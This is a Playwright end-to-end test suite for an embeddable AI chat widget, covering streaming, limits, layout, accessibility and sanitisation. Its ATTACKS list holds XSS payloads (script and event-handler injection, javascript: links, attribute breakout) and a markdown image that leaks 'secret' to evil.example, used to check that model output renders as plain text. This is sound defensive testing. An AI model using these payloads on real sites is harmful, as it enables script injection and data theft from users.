import type { Frame, Page } from 'playwright-core';
import { expectAccessible } from '../support/axe.js';
import { describeInBrowser, NARROW, type PageOptions, screenshot, useBrowser } from '../support/browser.js';
import { startTestEdge, type TestEdge } from '../support/edge.js';
import { usePlatform } from '../support/platform-suite.js';
import {
  chat as answerOf,
  DONE_EVENT,
  delta,
  FULL_STREAM,
  raw,
  type ScriptedUpstream,
  startScriptedUpstream,
  stream,
} from '../support/scripted-upstream.js';
import { until } from '../support/until.js';
import { changeWidget, createTestWidget, type TestWidget } from './edge-support.js';
import {
  type CustomerSite,
  chatIn,
  clickBubble,
  frameIn,
  hasBubble,
  keeps,
  startCustomerSite,
  tagOf,
  takesMessages,
  write,
} from './site.js';

/** Output of models that must be shown as plain words. */
const ATTACKS = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1">',
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt:window.hacked=1)',
  '[click](data:text/html,<script>window.hacked=1</script>)',
  '![x](http://evil.example/?q=secret)',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '`<b>`**<i>x</i>**',
  '<a href="//evil.example" onclick="window.hacked=1">x</a>',
  '"><style>*{display:none}</style>',
  '[a](https://ok.example/"onmouseover="window.hacked=1)',
];

describeInBrowser('the widget in a page', () => {
  const suite = usePlatform();
  const browser = useBrowser();
  let upstream: ScriptedUpstream;
  let edge: TestEdge;
  let site: CustomerSite;
  beforeAll(async () => {
    upstream = await startScriptedUpstream();
    edge = await startTestEdge(suite.db, { upstreamUrl: upstream.url, platformUrl: suite.url });
    site = await startCustomerSite();
  });
  afterAll(async () => {
    await edge?.close();
    await upstream?.close();
    await site?.close();
  });
  beforeEach(() => upstream.answer(stream(FULL_STREAM)));

  const widgetOn = (columns: Record<string, unknown> = {}): Promise<TestWidget> =>
    createTestWidget(suite.db, { columns: { allowed_domains: ['localhost'], ...columns } });
  /** In a page of its own. */
  const openNew = async (body: string, options: PageOptions = {}): Promise<Page> => {
    const page = await browser.open(site.url, { others: [edge.url], ...options });
    await page.goto(site.page('/', body));
    return page;
  };
  /** In the page of the test before. What that keeps of a conversation belongs to its widget. */
  const open = async (
    body: string,
    options: Pick<PageOptions, 'expectedErrors'> = {},
    headers = {},
  ): Promise<Page> => {
    const page = await browser.keep(
      () => browser.open(site.url, { others: [edge.url], ...options }),
      () => Promise.resolve(),
      options,
    );
    await page.goto(site.page('/', body, headers));
    return page;
  };

  test('opens with a click, answers, and keeps the conversation on the next page', async () => {
    const { publicKey } = await widgetOn({ greeting_message: 'Hello from the **shop**' });
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    await chat.getByText('Hello from the shop').waitFor();
    expect(await chat.locator('strong').textContent()).toBe('shop');
    // Somebody who opened it can write at once.
    await until(() => chat.evaluate<boolean>('document.activeElement?.id === "box"'), { what: 'the focus' });
    await write(chat, 'Do you ship?');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    await until(async () => (await chat.locator('#spoken').textContent()) === 'Assistant: Hello.', {
      what: 'the answer to be spoken',
    });
    await expectAccessible(chat);
    await screenshot(page, 'widget');
    await keeps(page, '"content":"Hello."');
    await page.goto(site.page('/next', tagOf(edge.url, publicKey)));
    const again = await chatIn(page);
    await again.locator('.turn.user', { hasText: 'Do you ship?' }).waitFor();
    await write(again, 'And more?');
    await until(() => upstream.seen.at(-1)!.body.includes('And more?'), { what: 'the second question' });
    expect((JSON.parse(upstream.seen.at(-1)!.body) as { messages: unknown }).messages).toEqual([
      { role: 'user', content: 'Do you ship?' },
      { role: 'assistant', content: 'Hello.' },
      { role: 'user', content: 'And more?' },
    ]);
    await again.locator('.turn.assistant', { hasText: 'Hello.' }).nth(1).waitFor();
    await again.locator('#box').press('Escape');
    await until(() => page.evaluate<boolean>('!document.activeElement.matches("iframe")'), {
      what: 'its end',
    });
  });

  test('continues when history is verified', async () => {
    const { publicKey } = await widgetOn({ verified_history: true });
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    for (let i = 1; i <= 3; i++) {
      await write(chat, `Question ${i}`);
      await chat
        .locator('.turn.assistant', { hasText: 'Hello.' })
        .nth(i - 1)
        .waitFor();
      await takesMessages(chat);
    }
  });

  test('keeps text that is written before it has loaded', async () => {
    const { publicKey } = await widgetOn();
    const page = await open('');
    const script = Promise.withResolvers<void>();
    await page.route('**/assets/widget-frame-*.js', async (route) => {
      await script.promise;
      await route.continue();
    });
    await page.goto(site.page('/slow', tagOf(edge.url, publicKey)));
    await clickBubble(page);
    const loading = await frameIn(page);
    await loading.locator('#box').fill('Do you ship?');
    await loading.locator('#send').click({ force: true });
    script.resolve();
    const chat = await chatIn(page);
    expect(await chat.locator('#box').inputValue()).toBe('Do you ship?');
    await chat.locator('#box').press('Enter');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    await page.unrouteAll({ behavior: 'wait' });
  });

  test("stays hidden on a site that isn't allowed", async () => {
    const { publicKey } = await widgetOn({ allowed_domains: ['shop.example'] });
    const page = await openNew('', { expectedErrors: /CORS|ERR_FAILED/ });
    const shown = page.waitForEvent('console', {
      predicate: (message) => message.text().startsWith('chat widget:'),
    });
    await page.goto(site.page('/foreign', tagOf(edge.url, publicKey)));
    await shown;
    expect(await hasBubble(page)).toBe(false);
    const framed = await openNew(`<iframe src="${edge.url}/widget/frame/x?key=${publicKey}"></iframe>`, {
      expectedErrors: /frame-ancestors/,
    });
    await until(() => framed.frames().some((frame) => frame.url().startsWith('chrome-error')), {
      what: 'the refusal to be framed',
    });
  });

  test('needs one host in the policy of a strict page, and shows one bubble for two tags', async () => {
    const { publicKey } = await widgetOn();
    const tag = tagOf(edge.url, publicKey);
    const policy = `default-src 'none'; script-src ${edge.url}; connect-src ${edge.url}; frame-src ${edge.url}`;
    const page = await open(tag + tag, {}, { 'content-security-policy': policy });
    await clickBubble(page);
    const chat = await chatIn(page);
    await write(chat, 'Hi');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    expect(await page.evaluate('document.querySelectorAll("body > div").length')).toBe(1);
    expect(page.frames()).toHaveLength(2);
  });

  test.each([
    ['that hides what is empty', '<style>div:empty{display:none!important}body>div{opacity:0}</style>', {}],
    ['without an origin', '', { 'content-security-policy': 'sandbox allow-scripts' }],
    ['that is isolated from other origins', '', { 'cross-origin-embedder-policy': 'require-corp' }],
  ])('appears in a page %s', async (_what, style, headers) => {
    const { publicKey } = await widgetOn({ allowed_domains: [] });
    const page = await open(style + tagOf(edge.url, publicKey, 'crossorigin'), {}, headers);
    await clickBubble(page);
    const chat = await chatIn(page);
    await write(chat, 'Hi');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
  });

  test('survives a page that replaces its body, and forgets what it had asked', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    let left = false;
    upstream.answer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(delta('Begun'));
      response.on('close', () => {
        left = true;
      });
    });
    await write(chat, 'Do you ship?');
    await chat.locator('.turn.assistant', { hasText: 'Begun' }).waitFor();
    const replace = (tag: string) =>
      page.evaluate(`(() => {
        const body = document.createElement('body');
        body.innerHTML = ${JSON.stringify(tag)};
        document.body.replaceWith(body);
      })()`);
    await replace(tagOf(edge.url, publicKey));
    await until(() => left, { what: 'the end of the answer that nobody sees' });
    const again = await chatIn(page);
    await again.locator('.turn.user', { hasText: 'Do you ship?' }).waitFor();
    upstream.answer(stream(FULL_STREAM));
    await again.getByRole('button', { name: 'Try again' }).click();
    await again.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    // A page without the tag has no chat.
    await replace('<p>Checkout</p>');
    await until(() => page.frames().length === 1, { what: 'the end of the chat' });
  });

  test('appears on a page without a connection once there is one', async () => {
    const { publicKey } = await widgetOn();
    const page = await openNew('', { expectedErrors: /ERR_FAILED/ });
    await page.route('**/api/widget/**', (route) => route.abort());
    await page.addInitScript("Object.defineProperty(navigator, 'onLine', { value: false })");
    const shown = page.waitForEvent('console', {
      predicate: (message) => message.text().startsWith('chat widget:'),
    });
    await page.goto(site.page('/kept', tagOf(edge.url, publicKey)));
    await shown;
    await page.unrouteAll();
    await page.evaluate("window.dispatchEvent(new Event('online'))");
    await clickBubble(page);
    await chatIn(page);
  });

  test('shows model output as plain words', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    upstream.answer(stream([...ATTACKS.map((text) => delta(`${text}\n\n`)), delta('END'), DONE_EVENT]));
    await write(chat, 'Attack');
    await chat.locator('.turn.assistant', { hasText: 'END' }).waitFor();
    const found = await chat.evaluate<[string[], string[], unknown]>(`[
      [...document.querySelectorAll('#log :is(script, img, svg, iframe, style, object)')].map((one) => one.tagName),
      [...document.querySelectorAll('#log a')].map((one) => new URL(one.href).protocol + one.rel),
      window.hacked]`);
    expect(found[0]).toEqual([]);
    expect(new Set(found[1])).toEqual(
      new Set(['http:noopener noreferrer nofollow', 'https:noopener noreferrer nofollow']),
    );
    expect(found[2]).toBeUndefined();
    expect(await page.evaluate('window.hacked')).toBeUndefined();
  });

  test('opens the page of a link outside of its sandbox', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    const target = site.page('/offer', '<p>An offer</p>');
    await clickBubble(page);
    const chat = await chatIn(page);
    upstream.answer(stream([delta(`See ${target} for it.`), DONE_EVENT]));
    await write(chat, 'Any offers?');
    await chat.locator('.turn.assistant', { hasText: 'for it.' }).waitFor();
    const opened = page.context().waitForEvent('page');
    await chat.getByRole('link', { name: target }).click();
    const offer = await opened;
    await offer.getByText('An offer').waitFor();
    // A sandboxed page would have no origin, and so no storage.
    expect(await offer.evaluate<string>('window.origin')).toBe(site.url);
    await offer.close();
  });

  test('explains limits, and a key that no longer works, in the chat', async () => {
    const widget = await widgetOn({ rate_limit_per_minute: 1, daily_message_limit: 2 });
    const page = await open(tagOf(edge.url, widget.publicKey), {
      expectedErrors: /status of (?:429|404|503)/,
    });
    await clickBubble(page);
    const chat = await chatIn(page);
    await write(chat, 'One');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    await takesMessages(chat);
    const shown = (words: string | RegExp) => chat.getByRole('alert').getByText(words).waitFor();
    await write(chat, 'Two');
    await shown(/Too many messages at once\. Try again in \d+ seconds?\./);
    await changeWidget(suite.db, widget, 'rate_limit_per_minute = 100, daily_message_limit = 1');
    await until(
      async () => {
        await write(chat, 'Again');
        await takesMessages(chat);
        return (
          (await chat.getByRole('alert').textContent()) ===
          'This chat has reached its limit for today. Please come back tomorrow.'
        );
      },
      { what: 'the daily limit' },
    );
    await changeWidget(suite.db, widget, `public_key = 'wgt_pr_' || substr(md5(random()::text), 1, 24)`);
    await until(
      async () => {
        await write(chat, 'Still?');
        await takesMessages(chat);
        return (await chat.getByRole('alert').textContent()) === 'This chat isn’t available any more.';
      },
      { what: 'the end of the key' },
    );
    await expectAccessible(chat);
  });

  test('offers another try when an answer breaks off', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    upstream.answer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(delta('Half an ans'));
      setTimeout(() => response.destroy(), 50);
    });
    await write(chat, 'Tell me');
    await chat.getByRole('alert').getByText('Something went wrong').waitFor();
    upstream.answer(stream(FULL_STREAM));
    await chat.getByRole('button', { name: 'Try again' }).click();
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    expect(await chat.locator('.turn.user').count()).toBe(1);
    await chat.getByRole('button', { name: 'New chat' }).click();
    expect(await chat.locator('.turn.user').count()).toBe(0);
  });

  test('points out a model that thinks without answering, and shows answers without thinking', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    const thought = [delta('<think>Hm.'), delta(' Let me see.')];
    upstream.answer(stream([...thought, DONE_EVENT]));
    await write(chat, 'Well?');
    await chat.getByRole('alert').getByText('didn’t get to an answer').waitFor();
    upstream.answer(stream([...thought, delta('</think>Here it is.'), DONE_EVENT]));
    await chat.getByRole('button', { name: 'Try again' }).click();
    await chat.locator('.turn.assistant', { hasText: 'Here it is.' }).waitFor();
    expect(await chat.locator('body').innerText()).not.toMatch(/Hm|<|Let me see/);
  });

  test("sends less of a conversation that is too long for the model, and explains when that doesn't help", async () => {
    const { publicKey } = await widgetOn({ verified_history: true });
    const page = await open(tagOf(edge.url, publicKey), { expectedErrors: /status of 400/ });
    await clickBubble(page);
    const chat = await chatIn(page);
    const answered = (times: number) =>
      chat
        .locator('.turn.assistant', { hasText: 'Hello.' })
        .nth(times - 1)
        .waitFor();
    const refusal = raw(400, '{"error":{"message":"maximum context length"}}');
    const askedWith = () =>
      upstream.seen.map(({ body }) => (JSON.parse(body) as { messages: unknown[] }).messages.length);
    const began = upstream.seen.length;
    upstream.answer((request, response) => {
      const { messages } = JSON.parse(request.body) as { messages: unknown[] };
      return (messages.length > 3 ? refusal : stream(FULL_STREAM))(request, response);
    });
    for (let asked = 1; asked <= 4; asked++) {
      await write(chat, `Question ${asked}`);
      await answered(asked);
      await takesMessages(chat);
    }
    // The third is asked twice. By then the chat knows how much the model takes.
    const [first, second, third, again, fourth, ...more] = askedWith().slice(began);
    expect([first, second, third, more]).toEqual([1, 3, 5, []]);
    expect(again).toBeLessThanOrEqual(3);
    expect(fourth).toBeLessThanOrEqual(3);
    upstream.answer(refusal);
    await write(chat, 'Question 5');
    const isOver = async (frame: Frame): Promise<void> => {
      await frame
        .getByRole('alert')
        .getByText('This conversation can’t be continued. Start a new one.')
        .waitFor();
      expect(await frame.getByRole('button', { name: 'Try again' }).count()).toBe(0);
    };
    await isOver(chat);
    await keeps(page, '"end":');
    await page.reload();
    const reloaded = await chatIn(page);
    await isOver(reloaded);
    upstream.answer(stream(FULL_STREAM));
    await reloaded.getByRole('button', { name: 'New chat' }).click();
    await write(reloaded, 'Question 6');
    await reloaded.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
  });

  test('leaves to an input method the keys with which a word is composed', async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    await chat.locator('#box').fill('にほん');
    const before = upstream.seen.length;
    const press = (key: object) =>
      chat.evaluate(
        `document.getElementById('box').dispatchEvent(new KeyboardEvent('keydown', ${JSON.stringify({ bubbles: true, ...key })}))`,
      );
    // Safari says so of this key by its code alone.
    await press({ key: 'Enter', keyCode: 229 });
    await press({ key: 'Enter', isComposing: true });
    await press({ key: 'Escape', isComposing: true });
    await press({ key: 'Escape', keyCode: 229 });
    expect(await chat.locator('#box').inputValue()).toBe('にほん');
    await chat.locator('#box').press('Enter');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
    expect(upstream.seen).toHaveLength(before + 1);
    // A frame that is closed has no size.
    expect(await chat.evaluate<number>('innerHeight')).toBeGreaterThan(0);
  });

  test('closes again when the chat can’t be loaded, notifies the page, and retries at the next click', async () => {
    const { publicKey } = await widgetOn();
    const page = await browser.open(site.url, { others: [edge.url], expectedErrors: /ERR_FAILED/ });
    await page.clock.install();
    await page.route('**/widget/frame/**', (route) => route.abort());
    await page.goto(site.page('/', tagOf(edge.url, publicKey)));
    await until(() => hasBubble(page), { what: 'the bubble' });
    await page.evaluate(`window.failed = 0; GatewayChat.on('error', () => failed++)`);
    await clickBubble(page);
    await page.clock.fastForward(16_000);
    await until(() => page.evaluate<boolean>('failed === 1'), { what: 'the error' });
    await page.unrouteAll();
    await clickBubble(page);
    const chat = await chatIn(page);
    await write(chat, 'Are you there?');
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
  });

  test('reports when an answer stalls, accepts it if it arrives after all, and asks again on request', async () => {
    const { publicKey } = await widgetOn();
    const page = await browser.open(site.url, { others: [edge.url] });
    // Twenty seconds of silence pass when the test says so, and not before.
    await page.addInitScript(`
      const [wait, forget, silences] = [setTimeout, clearTimeout, new Map()];
      window.setTimeout = (run, ms) => {
        const id = wait(run, ms);
        if (ms === 20_000) silences.set(id, run);
        return id;
      };
      window.clearTimeout = (id) => {
        forget(id);
        silences.delete(id);
      };
      window.lateEnd = window.endNow = undefined;
      const { read } = ReadableStreamDefaultReader.prototype;
      ReadableStreamDefaultReader.prototype.read = async function () {
        const part = await read.call(this);
        if (part.done) await window.lateEnd;
        return part;
      };
      window.heard = 0;
      const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
      Object.defineProperty(MessagePort.prototype, 'onmessage', {
        set(hear) {
          set.call(this, (event) => {
            hear(event);
            window.heard++;
          });
        },
      });
      window.passSilences = () => {
        for (const [id, run] of silences) {
          clearTimeout(id);
          run();
        }
      };
    `);
    await page.goto(site.page('/', tagOf(edge.url, publicKey)));
    await clickBubble(page);
    const chat = await chatIn(page);
    let goOn: () => void = () => undefined;
    let comment: () => void = () => undefined;
    const answerHalf = (): void =>
      upstream.answer((_request, response) => {
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        response.write(delta('Half '));
        goOn = () => response.end(delta('and half.') + DONE_EVENT);
        comment = () => response.write(': ping\n\n');
      });
    answerHalf();
    const answered = (text: string) => chat.locator('.turn.assistant', { hasText: text }).waitFor();
    const stalls = async (): Promise<void> => {
      await answered('Half');
      await chat.evaluate('passSilences()');
      await chat.getByRole('alert').getByText('No answer has come for a while.').waitFor();
    };
    await write(chat, 'Tell me');
    await stalls();
    // A comment doesn't say that the model goes on.
    const heard = await chat.evaluate<number>('heard');
    comment();
    await until(async () => (await chat.evaluate<number>('heard')) > heard, { what: 'the comment' });
    expect(await chat.getByRole('alert').textContent()).toContain('No answer has come for a while.');
    goOn();
    await answered('Half and half.');
    const noAlert = () =>
      until(async () => (await chat.locator('#trouble').textContent()) === '', { what: 'no alert' });
    await noAlert();
    await chat.getByRole('button', { name: 'New chat' }).click();
    // Also when all of it is there long before its connection ends.
    await page.evaluate('void (lateEnd = new Promise((resolve) => void (endNow = resolve)))');
    upstream.answer(stream([delta('Half and half again.'), DONE_EVENT]));
    await write(chat, 'Tell me');
    await stalls();
    await page.evaluate('endNow()');
    await noAlert();
    await chat.getByRole('button', { name: 'New chat' }).click();
    answerHalf();
    await write(chat, 'Tell me');
    await stalls();
    await expectAccessible(chat);
    upstream.answer(stream(FULL_STREAM));
    await chat.getByRole('button', { name: 'Try again' }).click();
    await answered('Hello.');
    await until(() => upstream.seen.at(-2)!.aborted, { what: 'the end of the first call' });
    expect(await chat.locator('.turn.assistant').count()).toBe(2);
  });

  test('is right to left where its page is, and each message by its own words', async () => {
    const { publicKey } = await widgetOn({
      greeting_message: 'مرحبا! كيف أساعدك؟',
      placeholder: 'اكتب رسالة',
    });
    const page = await open(`<body dir="rtl">${tagOf(edge.url, publicKey)}`);
    await clickBubble(page);
    const chat = await chatIn(page);
    for (const text of ['هل تشحنون إلى هنا؟', 'Do you ship?']) {
      await write(chat, text);
      await chat.locator('.turn.user', { hasText: text }).waitFor();
      await takesMessages(chat);
    }
    const found = await chat.evaluate<[string, [string, boolean][]]>(`[
      document.documentElement.dir,
      [...document.querySelectorAll('.turn')].map((turn) => {
        const { left, right } = turn.getBoundingClientRect();
        return [getComputedStyle(turn).direction, left < innerWidth - right];
      })]`);
    // The visitor's messages are at the end of a line, which is on the left.
    expect(found).toEqual([
      'rtl',
      [
        ['rtl', false],
        ['rtl', true],
        ['ltr', false],
        ['ltr', true],
        ['ltr', false],
      ],
    ]);
    await expectAccessible(chat);
    await screenshot(page, 'widget-rtl');
  });

  test("stays at its reader's position", async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    const chat = await chatIn(page);
    upstream.answer(stream([delta('A line.\n\n'.repeat(60)), delta('END'), DONE_EVENT]));
    await write(chat, 'Long');
    await chat.locator('.turn.assistant', { hasText: 'END' }).waitFor();
    await takesMessages(chat);
    const place = () => chat.evaluate<number>('document.getElementById("log").scrollTop');
    const room = await chat.evaluate<number>('log.scrollHeight - log.clientHeight');
    await until(async () => (await place()) > room - 2, { what: 'the end in sight' });
    await chat.evaluate('log.scrollTop = 40');
    let finish: () => void = () => undefined;
    upstream.answer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(delta('More.\n\n'.repeat(30)));
      finish = () => response.end(delta('THE END') + DONE_EVENT);
    });
    // Whoever writes sees it; then reads on above.
    await write(chat, 'More');
    await chat.locator('.turn.assistant', { hasText: 'More.' }).waitFor();
    await chat.evaluate('log.scrollTop = 40');
    await until(async () => (await place()) === 40, { what: 'the place' });
    await chat.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))');
    finish();
    await chat.locator('.turn.assistant', { hasText: 'THE END' }).waitFor();
    expect(await place()).toBe(40);
    await page.evaluate('GatewayChat.close()');
    await page.evaluate('GatewayChat.open()');
    await until(async () => (await place()) === 40, { what: 'the same place after it was closed' });
  });

  test('fills a phone above its keyboard, without opening or closing it', async () => {
    const { publicKey } = await widgetOn();
    // A phone's keyboard makes the visible part smaller; simulated in a browser without one.
    const keyboard = `<script>
      Object.defineProperty(window, 'visualViewport', { value: Object.assign(new EventTarget(), { height: innerHeight, offsetTop: 0 }) });
    </script>`;
    const tag = tagOf(edge.url, publicKey, 'data-pr-greeting="Salut"');
    const page = await openNew(keyboard + tag, { viewport: NARROW });
    await clickBubble(page);
    const chat = await chatIn(page);
    await chat.getByText('Salut').waitFor();
    const fills = `innerWidth === ${NARROW.width} && innerHeight === ${NARROW.height}`;
    await until(() => chat.evaluate<boolean>(fills), { what: 'the chat to fill the phone' });
    // It has the focus, since the bubble that had it is hidden; its box has not, which would bring up the keyboard.
    await until(() => chat.evaluate<boolean>('document.hasFocus()'), { what: 'the focus in the chat' });
    expect(await chat.evaluate('document.activeElement?.id')).not.toBe('box');
    await screenshot(page, 'widget-phone');
    await page.evaluate(
      "Object.assign(visualViewport, { height: 400, offsetTop: 30 }); visualViewport.dispatchEvent(new Event('resize'))",
    );
    await until(async () => (await chat.evaluate('innerHeight')) === 400, { what: 'room for the keyboard' });
    expect((await chat.locator('#send').boundingBox())!.y).toBeGreaterThan(300);
    expect((await chat.locator('#send').boundingBox())!.y).toBeLessThan(430);
    await page.evaluate(
      "Object.assign(visualViewport, { height: innerHeight, offsetTop: 0 }); visualViewport.dispatchEvent(new Event('resize'))",
    );
    await chat.getByRole('button', { name: 'Close chat' }).click();
    await until(() => hasBubble(page), { what: 'the bubble' });
  });

  test("follows the page's script", async () => {
    const { publicKey } = await widgetOn();
    const page = await open(tagOf(edge.url, publicKey));
    await until(() => hasBubble(page), { what: 'the bubble' });
    await page.evaluate(
      `window.heard = []; GatewayChat.on('message', (text) => heard.push(text)); GatewayChat.send('From the page')`,
    );
    await until(() => page.evaluate<boolean>('heard.includes("Hello.")'), { what: 'the answer' });
    const chat = await chatIn(page);
    await chat.locator('.turn.user', { hasText: 'From the page' }).waitFor();
    // A page that cuts its texts cuts characters in half: the gateway would refuse the message, and each one after it.
    await page.evaluate(`GatewayChat.send('\\udc4b Cut \\ud83d here 👋 or there \\ud83d')`);
    await until(() => upstream.seen.at(-1)!.body.includes('Cut'), { what: 'the second message' });
    const { messages } = JSON.parse(upstream.seen.at(-1)!.body) as { messages: { content: string }[] };
    expect(messages.at(-1)!.content).toBe('Cut  here 👋 or there');
    // A message during an answer waits for its end.
    await takesMessages(chat);
    let finish: (() => void) | undefined;
    upstream.answer((request, response) => {
      finish = () => stream(FULL_STREAM)(request, response);
    });
    await page.evaluate(`GatewayChat.send('First'); GatewayChat.send('Second')`);
    const end = await until(() => finish, { what: 'the first of two' });
    upstream.answer(stream(FULL_STREAM));
    end();
    await until(() => upstream.seen.at(-1)!.body.includes('Second'), { what: 'the second of two' });
    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).nth(3).waitFor();
    await page.evaluate('GatewayChat.close()');
    await until(() => hasBubble(page), { what: 'the bubble' });
  });

  test('is small, and revalidated soon', async () => {
    const loader = await fetch(`${edge.url}/widget/v1.js`);
    expect(loader.headers.get('cache-control')).toBe('public, max-age=300');
    expect(loader.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    const { publicKey } = await widgetOn({ allowed_domains: ['shop.example', '*.blog.example'] });
    const policyOf = async (key: string) =>
      /frame-ancestors (.*)$/.exec(
        (await fetch(`${edge.url}/widget/frame/x?key=${key}`)).headers.get('content-security-policy')!,
      )![1];
    expect(await policyOf(publicKey)).toBe(
      "'self' http://shop.example:* https://shop.example:* http://*.blog.example:* https://*.blog.example:*",
    );
    expect(await policyOf('nobody')).toBe("'self'");
    upstream.answer(answerOf());
  });

  test('works on each of as many sites as can be named, whatever their length', async () => {
    const longest = ['a'.repeat(60), 'b'.repeat(62), 'c'.repeat(62), 'd'.repeat(61)].join('.');
    const { publicKey } = await widgetOn({
      allowed_domains: [...Array.from({ length: 49 }, (_, n) => `${n + 10}.${longest}`), 'localhost'],
    });
    const page = await open(tagOf(edge.url, publicKey));
    await clickBubble(page);
    await chatIn(page);
  });
});
